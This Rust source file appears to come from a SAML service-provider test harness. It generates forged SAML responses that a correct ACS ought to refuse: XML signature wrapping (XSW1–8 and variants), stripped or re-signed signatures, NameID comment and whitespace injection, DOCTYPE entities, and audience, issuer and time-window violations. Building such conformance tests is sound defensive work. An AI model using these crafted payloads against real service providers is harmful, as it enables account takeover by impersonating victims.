//! The attack catalogue an SP's ACS must withstand (okta-saml §3): signature wrapping XSW1–8 as
//! SAML Raider numbers them and their relatives (the Response hidden in KeyInfo, the evil
//! assertion after the signed one, two signed assertions of which the victim's is unusable),
//! signature stripped, wrong certificate, tampering after signing, comment and whitespace
//! injection in NameID, every time-window, audience, destination, recipient, confirmation,
//! issuer and InResponseTo violation with an otherwise valid signature, a non-success status, a
//! DOCTYPE with an entity, and SHA-1. Replay and InResponseTo reuse are flows, not documents: the
//! harness sends a valid response twice.
//!
//! Each case is crafted so that a correct SP refuses it, and so that a vulnerable SP would log
//! in the victim: the harness then reports who got logged in. Every document is valid against
//! the SAML 2.0 schemas.

use time::{Duration, OffsetDateTime};

use super::dsig::SigAlg;
use super::idp::{IdpError, ResponseSpec, SamlApp, SamlUser};
use super::keys::SigningKey;
use super::xml::{Element, NS_DS, NS_SAML, NS_SAMLP, Node, parse};

/// What accepting a case proves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackClass {
    /// Accepting it at all is the hole.
    Refuse,
    /// Signature wrapping: the document also holds a signed assertion for the attacker. An SP that
    /// accepts it but signs in that signed identity is not exploitable, though it should refuse.
    Wrapping,
    /// The signed identity is the attacker's own; only signing in another identity is a hole.
    SignedIdentity,
}

impl AttackClass {
    /// Whether an acceptance bound to the signed (attacker's) identity is tolerated.
    pub fn tolerates_signed_identity(self) -> bool {
        !matches!(self, AttackClass::Refuse)
    }
    /// Whether the case gets the `rfc-should` check that it is refused outright.
    pub fn binds_to_signed(self) -> bool {
        matches!(self, AttackClass::Wrapping)
    }
}

/// One case of the catalogue: its name (as features and reports spell it), what accepting it
/// proves, whether its grade is the SHA-1 policy's, whether it answers a request the SP sent
/// (so the harness must start an SP-initiated sign-in first), what it sends, and how it is crafted.
pub struct AttackDef {
    /// The name features and reports use, e.g. `xsw3`.
    pub name: &'static str,
    /// What accepting it proves.
    pub class: AttackClass,
    /// Graded by `--sha1-policy` rather than as a MUST.
    pub sha1_policy: bool,
    /// It answers an AuthnRequest the SP issued: [`AttackInput::in_response_to`] must be set.
    pub needs_request: bool,
    /// The document is valid against the SAML 2.0 schemas. Only a case whose very point is
    /// what the schemas forbid (an Assertion without an ID) is not; an SP that validates the
    /// schema refuses it for that reason, which is a correct refusal.
    pub schema_valid: bool,
    /// What the case sends, for reports.
    pub describe: &'static str,
    /// Crafts the response XML.
    pub craft: fn(&AttackInput<'_>) -> Result<String, IdpError>,
}

impl std::fmt::Debug for AttackDef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name)
    }
}

impl PartialEq for AttackDef {
    fn eq(&self, other: &Self) -> bool {
        self.name == other.name
    }
}

/// A case with the usual settings: a MUST, unsolicited.
const fn case(
    name: &'static str,
    class: AttackClass,
    describe: &'static str,
    craft: fn(&AttackInput<'_>) -> Result<String, IdpError>,
) -> AttackDef {
    AttackDef {
        name,
        class,
        sha1_policy: false,
        needs_request: false,
        schema_valid: true,
        describe,
        craft,
    }
}

use AttackClass::{Refuse, SignedIdentity, Wrapping};

/// The attack catalogue (okta-saml §3). Every document but `no-assertion-id` is valid against the
/// SAML 2.0 schemas (`tests/saml_schemas.rs`), so a schema check alone defeats none of them; every case is built
/// so that accepting it proves a hole (a genuine assertion for the victim in a document is
/// unusable on its own). Adding a case is one entry here plus its craft function;
/// `features/11_sso_attacks.feature`, the README and the check catalogue follow the table
/// (tests hold them to it). Cases that answer a request come last (their own scenario outline).
pub static ATTACKS: &[AttackDef] = &[
    // Signature wrapping, the signed Response hidden (SAML Raider XSW1, XSW2, made schema-valid).
    case(
        "xsw1",
        Wrapping,
        "the signed Response hidden in a ds:Object of its own Signature; the outer Response (new ID) claims the victim",
        |i| wrap_response(i, Hide::SignatureObject),
    ),
    case(
        "xsw2",
        Wrapping,
        "the signed Response hidden in the Advice of the outer assertion, which claims the victim",
        |i| wrap_response(i, Hide::Advice),
    ),
    case(
        "xsw-response-in-keyinfo",
        Wrapping,
        "the signed Response hidden in the KeyInfo of its own Signature; the outer Response claims the victim",
        |i| wrap_response(i, Hide::SignatureKeyInfo),
    ),
    // Signature wrapping, the signed Assertion hidden or beside an evil one (XSW3 to XSW8).
    case(
        "xsw3",
        Wrapping,
        "an unsigned Assertion for the victim before the signed one",
        |i| wrap_assertion(i, AssertionWrap::EvilBefore),
    ),
    case(
        "xsw-evil-after",
        Wrapping,
        "an unsigned Assertion for the victim after the signed one",
        |i| wrap_assertion(i, AssertionWrap::EvilAfter),
    ),
    case(
        "xsw4",
        Wrapping,
        "an unsigned Assertion for the victim with the signed one hidden in its Advice",
        |i| wrap_assertion(i, AssertionWrap::OriginalInEvilAdvice),
    ),
    case(
        "xsw5",
        Wrapping,
        "the signed Assertion's place now claims the victim (new ID); an unsigned copy of the original at the end",
        |i| wrap_assertion(i, AssertionWrap::OriginalAtEnd),
    ),
    case(
        "xsw6",
        Wrapping,
        "the signed Assertion's place now claims the victim (new ID); the original hidden in the KeyInfo of its Signature",
        |i| wrap_assertion(i, AssertionWrap::OriginalInKeyInfo),
    ),
    case(
        "xsw7",
        Wrapping,
        "an unsigned Assertion for the victim in the Response's Extensions (in schema order, before Status)",
        |i| wrap_assertion(i, AssertionWrap::EvilInExtensions),
    ),
    case(
        "xsw8",
        Wrapping,
        "the Assertion now claims the victim; the original hidden in a ds:Object of its Signature",
        |i| wrap_assertion(i, AssertionWrap::OriginalInObject),
    ),
    case(
        "two-assertions",
        Wrapping,
        "two signed assertions: the victim's, issued to another SP, then the attacker's own",
        |i| two_assertions(i, Unusable::OtherAudience),
    ),
    case(
        "two-assertions-expired",
        Wrapping,
        "two signed assertions: the victim's, expired, then the attacker's own",
        |i| two_assertions(i, Unusable::Expired),
    ),
    // Signatures.
    case(
        "signature-stripped",
        Refuse,
        "a valid response with every ds:Signature removed",
        signature_stripped,
    ),
    case(
        "wrong-certificate",
        Refuse,
        "signed with another key, whose certificate is in KeyInfo",
        |i| spec(i, i.victim).to_xml(i.attacker_key),
    ),
    case(
        "tampered-after-signing",
        Refuse,
        "the attacker's signed assertion with the NameID changed to the victim after signing",
        tampered_after_signing,
    ),
    case(
        "comment-injection",
        SignedIdentity,
        "NameID victim<!---->.evil.example signed for the attacker (CVE-2017-11427 family)",
        comment_injection,
    ),
    case(
        "name-id-whitespace",
        SignedIdentity,
        "the attacker's signed NameID is the victim's with a leading space",
        |i| {
            let mut attacker = i.attacker.clone();
            attacker.name_id = format!(" {}", i.victim.name_id);
            spec(i, &attacker).to_xml(i.key)
        },
    ),
    AttackDef {
        name: "sha1",
        class: Refuse,
        sha1_policy: true,
        needs_request: false,
        schema_valid: true,
        describe: "a valid response signed with RSA-SHA1 and SHA-1 digests",
        craft: |i| signed_victim(i, |s, _| s.alg = SigAlg::RsaSha1),
    },
    // Validly signed, one thing wrong.
    case(
        "expired",
        Refuse,
        "validly signed, issued an hour ago, every NotOnOrAfter in the past",
        |i| {
            signed_victim(i, |s, now| {
                s.issue_instant = now - Duration::hours(1);
                s.not_before = now - Duration::minutes(65);
                s.not_on_or_after = now - Duration::minutes(55);
                s.subject_not_on_or_after = now - Duration::minutes(55);
            })
        },
    ),
    case(
        "not-yet-valid",
        Refuse,
        "validly signed, Conditions NotBefore ten minutes in the future",
        |i| signed_victim(i, |s, now| s.not_before = now + Duration::minutes(10)),
    ),
    case(
        "subject-confirmation-expired",
        Refuse,
        "validly signed, SubjectConfirmationData NotOnOrAfter in the past",
        |i| {
            signed_victim(i, |s, now| {
                s.subject_not_on_or_after = now - Duration::minutes(10)
            })
        },
    ),
    case(
        "subject-confirmation-not-yet-valid",
        Refuse,
        "validly signed, SubjectConfirmationData NotBefore ten minutes in the future",
        |i| {
            signed_victim(i, |s, now| {
                s.subject_not_before = Some(now + Duration::minutes(10))
            })
        },
    ),
    case(
        "wrong-audience",
        Refuse,
        "validly signed for another SP's Audience",
        |i| signed_victim(i, |s, _| s.audience = Some(OTHER_SP.into())),
    ),
    case(
        "no-audience",
        Refuse,
        "validly signed without an AudienceRestriction",
        |i| signed_victim(i, |s, _| s.audience = None),
    ),
    case(
        "second-audience-restriction",
        Refuse,
        "validly signed with a second AudienceRestriction naming only another SP (each restriction must hold)",
        |i| {
            signed_victim(i, |s, _| {
                s.more_audience_restrictions = vec![OTHER_SP.into()]
            })
        },
    ),
    case(
        "audience-whitespace",
        Refuse,
        "validly signed with this SP's Audience padded with spaces",
        |i| {
            signed_victim(i, |s, _| {
                s.audience = s.audience.take().map(|a| format!(" {a} "))
            })
        },
    ),
    case(
        "wrong-destination",
        Refuse,
        "validly signed with another Destination",
        |i| signed_victim(i, |s, _| s.destination = Some(format!("{OTHER_SP}/acs"))),
    ),
    case(
        "destination-whitespace",
        Refuse,
        "validly signed with this ACS as Destination, padded with spaces",
        |i| {
            signed_victim(i, |s, _| {
                s.destination = s.destination.take().map(|d| format!(" {d} "))
            })
        },
    ),
    case(
        "no-destination",
        Refuse,
        "a signed Response without a Destination",
        |i| signed_victim(i, |s, _| s.destination = None),
    ),
    case(
        "wrong-recipient",
        Refuse,
        "validly signed with another Recipient",
        |i| signed_victim(i, |s, _| s.recipient = format!("{OTHER_SP}/acs")),
    ),
    case(
        "no-recipient",
        Refuse,
        "validly signed, the bearer SubjectConfirmationData without a Recipient",
        |i| signed_victim(i, |s, _| s.recipient = String::new()),
    ),
    case(
        "no-bearer-confirmation",
        Refuse,
        "validly signed, the SubjectConfirmation is holder-of-key, not bearer",
        |i| {
            signed_victim(i, |s, _| {
                s.confirmation_method = "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key".into()
            })
        },
    ),
    case(
        "no-authn-statement",
        Refuse,
        "validly signed without an AuthnStatement",
        |i| signed_victim(i, |s, _| s.authn_statement = false),
    ),
    case(
        "empty-name-id",
        Refuse,
        "validly signed with an empty NameID",
        |i| signed_victim(i, |s, _| s.name_id = String::new()),
    ),
    AttackDef {
        name: "no-assertion-id",
        class: Refuse,
        sha1_policy: false,
        needs_request: false,
        schema_valid: false,
        describe: "a signed Response whose Assertion has no ID (so no replay cache can remember it)",
        craft: |i| {
            signed_victim(i, |s, _| {
                s.assertion_id = String::new();
                s.assertion_signed = false;
                s.response_signed = true;
            })
        },
    },
    case(
        "wrong-issuer",
        Refuse,
        "signed with the trusted key but naming another IdP as Issuer",
        |i| {
            signed_victim(i, |s, _| {
                s.response_issuer = "http://www.okta.com/exkEVILevilEVILevil0".into();
                s.assertion_issuer = s.response_issuer.clone();
            })
        },
    ),
    case(
        "issuer-whitespace",
        Refuse,
        "validly signed with the trusted Issuer padded with newlines",
        |i| {
            signed_victim(i, |s, _| {
                s.assertion_issuer = format!("\n{}\n", s.assertion_issuer);
                s.response_issuer = s.assertion_issuer.clone();
            })
        },
    ),
    case(
        "in-response-to-mismatch",
        Refuse,
        "validly signed in response to an AuthnRequest the SP never sent",
        |i| {
            let fresh = i.app.fresh_id();
            signed_victim(i, move |s, _| {
                let id = format!("id-never-issued-{fresh}");
                s.in_response_to = Some(id.clone());
                s.subject_in_response_to = Some(id.clone());
                s.session_index = id;
            })
        },
    ),
    case(
        "non-success-status",
        Refuse,
        "validly signed with Status Responder",
        |i| {
            signed_victim(i, |s, _| {
                s.status = "urn:oasis:names:tc:SAML:2.0:status:Responder".into()
            })
        },
    ),
    case(
        "doctype",
        Refuse,
        "a DOCTYPE defining an entity that spells the victim's NameID",
        doctype,
    ),
    // Answers to a request the SP sent.
    AttackDef {
        name: "in-response-to-unsigned-only",
        class: Refuse,
        sha1_policy: false,
        needs_request: true,
        schema_valid: true,
        describe: "the unsigned Response answers the SP's outstanding request; the signed assertion answers a request never sent",
        craft: |i| {
            let outstanding = i
                .in_response_to
                .ok_or_else(|| bad("this case answers an outstanding AuthnRequest"))?;
            let mut s = spec(i, i.victim);
            s.response_signed = false;
            s.in_response_to = Some(outstanding.to_string());
            s.subject_in_response_to = Some(format!("id-never-issued-{}", i.app.fresh_id()));
            s.to_xml(i.key)
        },
    },
];

/// The Audience of another SP the IdP serves.
const OTHER_SP: &str = "https://other-sp.example/saml";

/// The case of this name.
pub fn attack_named(name: &str) -> Option<&'static AttackDef> {
    ATTACKS.iter().find(|a| a.name.eq_ignore_ascii_case(name))
}

/// What a case needs: the trusted IdP (app and key), an untrusted key, the victim and the
/// attacker (a legitimate user of the IdP who wants to become the victim).
pub struct AttackInput<'a> {
    /// The trusted IdP app.
    pub app: &'a SamlApp,
    /// The trusted IdP key.
    pub key: &'a SigningKey,
    /// A key the SP must not trust.
    pub attacker_key: &'a SigningKey,
    /// Whom the attacker wants to become.
    pub victim: &'a SamlUser,
    /// A legitimate user of the IdP: the attacker.
    pub attacker: &'a SamlUser,
    /// For SP-initiated flows: the AuthnRequest ID the SP issued.
    pub in_response_to: Option<&'a str>,
}

fn set_name_id(assertion: &mut Element, name_id: &str) {
    if let Some(subject) = assertion.child_mut(NS_SAML, "Subject")
        && let Some(n) = subject.child_mut(NS_SAML, "NameID")
    {
        n.set_text(name_id);
    }
    if let Some(stmt) = assertion.child_mut(NS_SAML, "AttributeStatement") {
        for attr in stmt.elements_mut() {
            if attr.attr("Name") == Some("email") {
                for v in attr.elements_mut() {
                    v.set_text(name_id);
                }
            }
        }
    }
}

fn remove_signatures(e: &mut Element) {
    e.children
        .retain(|n| !matches!(n, Node::Element(c) if c.is(NS_DS, "Signature")));
    for c in e.elements_mut() {
        remove_signatures(c);
    }
}

fn child_index(e: &Element, ns: &str, local: &str) -> Option<usize> {
    e.children
        .iter()
        .position(|n| matches!(n, Node::Element(c) if c.is(ns, local)))
}

fn assertion_node_index(resp: &Element) -> Option<usize> {
    child_index(resp, NS_SAML, "Assertion")
}

fn spec(input: &AttackInput<'_>, user: &SamlUser) -> ResponseSpec {
    ResponseSpec::for_user(input.app, user, input.in_response_to)
}

fn bad(msg: &str) -> IdpError {
    IdpError::Sign(msg.to_string())
}

/// The victim's own response, validly signed, with one thing changed.
fn signed_victim(
    input: &AttackInput<'_>,
    change: impl Fn(&mut ResponseSpec, OffsetDateTime),
) -> Result<String, IdpError> {
    let mut s = spec(input, input.victim);
    // "Now" is the response's own issue instant: the run's clock when it has a fixed one.
    let now = s.issue_instant;
    change(&mut s, now);
    s.to_xml(input.key)
}

fn signature_stripped(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let mut doc =
        parse(&spec(input, input.victim).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    remove_signatures(&mut doc);
    Ok(doc.to_xml())
}

fn tampered_after_signing(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let mut doc =
        parse(&spec(input, input.attacker).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[i] {
        set_name_id(a, &input.victim.name_id);
    }
    Ok(doc.to_xml())
}

fn comment_injection(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let victim = input.victim;
    let mut attacker = input.attacker.clone();
    attacker.name_id = format!("{}.evil.example", victim.name_id);
    attacker.email = attacker.name_id.clone();
    let mut doc =
        parse(&spec(input, &attacker).to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[i]
        && let Some(n) = a
            .child_mut(NS_SAML, "Subject")
            .and_then(|s| s.child_mut(NS_SAML, "NameID"))
    {
        n.children = vec![
            Node::Text(victim.name_id.clone()),
            Node::Comment(String::new()),
            Node::Text(".evil.example".into()),
        ];
    }
    Ok(doc.to_xml())
}

fn doctype(input: &AttackInput<'_>) -> Result<String, IdpError> {
    let victim = input.victim;
    let xml = spec(input, victim).to_xml(input.key)?;
    let entity_name = "who";
    let escaped = super::xml::escape_text(&victim.name_id);
    let with_entity = xml.replacen(
        &format!(">{escaped}</saml2:NameID>"),
        &format!(">&{entity_name};</saml2:NameID>"),
        1,
    );
    Ok(format!(
        "<!DOCTYPE saml2p:Response [<!ENTITY {entity_name} \"{}\">]>{with_entity}",
        victim.name_id.replace('"', "&quot;")
    ))
}

/// Why the victim's genuine assertion in a two-assertion document is no use on its own.
#[derive(Clone, Copy)]
enum Unusable {
    OtherAudience,
    Expired,
}

/// Two signed assertions: the victim's (unusable alone), then the attacker's valid one. An SP
/// that validates one and reads the other signs in the victim.
fn two_assertions(input: &AttackInput<'_>, why: Unusable) -> Result<String, IdpError> {
    let key = input.key;
    let mut v = spec(input, input.victim);
    let now = v.issue_instant;
    v.response_signed = false;
    v.assertion_signed = true;
    match why {
        Unusable::OtherAudience => v.audience = Some(OTHER_SP.into()),
        Unusable::Expired => {
            v.issue_instant = now - Duration::hours(2);
            v.not_before = now - Duration::hours(2);
            v.not_on_or_after = now - Duration::hours(1);
            v.subject_not_on_or_after = now - Duration::hours(1);
        }
    }
    let mut a = spec(input, input.attacker);
    a.response_signed = false;
    a.assertion_signed = true;
    let both = format!("{}{}", v.signed_assertion(key)?, a.signed_assertion(key)?);
    a.response_around(&both, key)
}

/// Where a wrapping case hides the signed original.
#[derive(Clone, Copy)]
enum Hide {
    /// A `ds:Object` appended to the signature (its content is open).
    SignatureObject,
    /// The signature's `ds:KeyInfo` (open to other namespaces).
    SignatureKeyInfo,
    /// The `saml:Advice` of the assertion (open to other namespaces, and to assertions).
    Advice,
}

fn element(prefix: &str, local: &str, ns: &str, children: Vec<Node>) -> Element {
    Element {
        prefix: Some(prefix.into()),
        local: local.into(),
        ns: Some(ns.into()),
        ns_decls: vec![(Some(prefix.into()), ns.into())],
        attrs: vec![],
        children,
    }
}

/// Put `hidden` into the signature `sig` (a ds:Object after everything, or the KeyInfo).
fn hide_in_signature(sig: &mut Element, hidden: Element, place: Hide) -> Result<(), IdpError> {
    match place {
        Hide::SignatureKeyInfo => {
            let ki = sig
                .child_mut(NS_DS, "KeyInfo")
                .ok_or_else(|| bad("no KeyInfo"))?;
            ki.children.push(Node::Element(hidden));
        }
        _ => sig.children.push(Node::Element(element(
            "ds",
            "Object",
            NS_DS,
            vec![Node::Element(hidden)],
        ))),
    }
    Ok(())
}

/// Put `hidden` into the Advice of `assertion` (after Conditions, before the statements).
fn hide_in_advice(assertion: &mut Element, hidden: Element) {
    let at = assertion
        .children
        .iter()
        .position(|n| matches!(n, Node::Element(e) if e.local.ends_with("Statement")))
        .unwrap_or(assertion.children.len());
    assertion.children.insert(
        at,
        Node::Element(element(
            "saml2",
            "Advice",
            NS_SAML,
            vec![Node::Element(hidden)],
        )),
    );
}

/// XSW1, XSW2 and the KeyInfo variant: the Response is signed, the assertion not; the signature
/// (still in the outer Response) refers to the hidden copy, the outer Response claims the victim.
fn wrap_response(input: &AttackInput<'_>, place: Hide) -> Result<String, IdpError> {
    let mut s = spec(input, input.attacker);
    s.response_signed = true;
    s.assertion_signed = false;
    let mut doc = parse(&s.to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let scope = doc.scope_at(&[]);
    let mut original = doc.clone();
    remove_signatures(&mut original);
    original.materialize_namespaces(&scope);
    doc.set_attr("ID", &input.app.fresh_id());
    let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    if let Node::Element(a) = &mut doc.children[ai] {
        set_name_id(a, &input.victim.name_id);
        a.set_attr("ID", &input.app.fresh_id());
        if let Hide::Advice = place {
            hide_in_advice(a, original.clone());
        }
    }
    if !matches!(place, Hide::Advice) {
        let si = child_index(&doc, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
        if let Node::Element(sig) = &mut doc.children[si] {
            hide_in_signature(sig, original, place)?;
        }
    }
    Ok(doc.to_xml())
}

/// Where XSW3–XSW8 put the evil assertion and the signed original.
#[derive(Clone, Copy)]
enum AssertionWrap {
    EvilBefore,
    EvilAfter,
    OriginalInEvilAdvice,
    OriginalAtEnd,
    OriginalInKeyInfo,
    EvilInExtensions,
    OriginalInObject,
}

/// XSW3–XSW8: the assertion is signed, the response not.
fn wrap_assertion(input: &AttackInput<'_>, place: AssertionWrap) -> Result<String, IdpError> {
    let victim = input.victim;
    let mut s = spec(input, input.attacker);
    s.response_signed = false;
    s.assertion_signed = true;
    let mut doc = parse(&s.to_xml(input.key)?).map_err(|e| bad(&e.to_string()))?;
    let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
    let scope = doc.scope_at(&[doc
        .elements()
        .position(|e| e.is(NS_SAML, "Assertion"))
        .unwrap_or(0)]);
    let Node::Element(signed) = doc.children[ai].clone() else {
        return Err(bad("no assertion"));
    };
    // The evil assertion: the signed one's content for the victim, with a new ID, unsigned.
    let mut evil = signed.clone();
    remove_signatures(&mut evil);
    evil.materialize_namespaces(&scope);
    evil.set_attr("ID", &input.app.fresh_id());
    set_name_id(&mut evil, &victim.name_id);
    // The original as the signature digested it: without its signature.
    let mut unsigned_original = signed.clone();
    remove_signatures(&mut unsigned_original);
    unsigned_original.materialize_namespaces(&scope);
    match place {
        AssertionWrap::EvilBefore => doc.children.insert(ai, Node::Element(evil)),
        AssertionWrap::EvilAfter => doc.children.insert(ai + 1, Node::Element(evil)),
        AssertionWrap::OriginalInEvilAdvice => {
            let mut inner = signed;
            inner.materialize_namespaces(&scope);
            hide_in_advice(&mut evil, inner);
            doc.children[ai] = Node::Element(evil);
        }
        AssertionWrap::EvilInExtensions => {
            let status = child_index(&doc, NS_SAMLP, "Status").ok_or_else(|| bad("no Status"))?;
            let extensions = element("saml2p", "Extensions", NS_SAMLP, vec![Node::Element(evil)]);
            doc.children.insert(status, Node::Element(extensions));
        }
        AssertionWrap::OriginalAtEnd
        | AssertionWrap::OriginalInKeyInfo
        | AssertionWrap::OriginalInObject => {
            // The signed assertion's place claims the victim under a new ID; its signature
            // still refers to the original, hidden elsewhere.
            let mut modified = signed;
            modified.set_attr("ID", &input.app.fresh_id());
            set_name_id(&mut modified, &victim.name_id);
            let si =
                child_index(&modified, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
            match place {
                AssertionWrap::OriginalAtEnd => {
                    doc.children[ai] = Node::Element(modified);
                    doc.children.push(Node::Element(unsigned_original));
                }
                _ => {
                    let hide = if let AssertionWrap::OriginalInKeyInfo = place {
                        Hide::SignatureKeyInfo
                    } else {
                        Hide::SignatureObject
                    };
                    if let Node::Element(sig) = &mut modified.children[si] {
                        hide_in_signature(sig, unsigned_original, hide)?;
                    }
                    doc.children[ai] = Node::Element(modified);
                }
            }
        }
    }
    Ok(doc.to_xml())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::saml::xml::NS_SAML;

    fn user(n: &str) -> SamlUser {
        SamlUser {
            name_id: n.into(),
            email: n.into(),
            first_name: "F".into(),
            last_name: "L".into(),
            groups: vec![],
            custom: vec![],
        }
    }

    #[test]
    fn every_case_is_well_formed_xml_except_doctype_and_mentions_the_victim() {
        let app = SamlApp::new(
            "http://idp.test",
            "https://sp.test/acs",
            "https://sp.test/md",
        );
        let (key, other) = (SigningKey::test_fixture(), SigningKey::test_fixture_other());
        let (victim, attacker) = (user("alice@example.com"), user("mallory@example.com"));
        let input = AttackInput {
            app: &app,
            key: &key,
            attacker_key: &other,
            victim: &victim,
            attacker: &attacker,
            in_response_to: None,
        };
        let answering = AttackInput {
            in_response_to: Some("id-outstanding"),
            ..input
        };
        for a in ATTACKS {
            let input = if a.needs_request { &answering } else { &input };
            if a.needs_request {
                let without = AttackInput {
                    in_response_to: None,
                    ..*input
                };
                assert!((a.craft)(&without).is_err(), "{} needs a request", a.name);
            }
            let xml = (a.craft)(input).unwrap_or_else(|e| panic!("{}: {e}", a.name));
            if a.name == "doctype" {
                assert!(parse(&xml).is_err());
                continue;
            }
            let doc = parse(&xml).unwrap_or_else(|e| panic!("{}: {e}\n{xml}", a.name));
            assert!(xml.contains("alice@example.com"), "{}", a.name);
            let assertions = doc.find_all(NS_SAML, "Assertion").len();
            let expected = if a.class == AttackClass::Wrapping {
                2
            } else {
                1
            };
            assert_eq!(assertions, expected, "{}", a.name);
            assert_eq!(attack_named(a.name), Some(a));
        }
    }
}
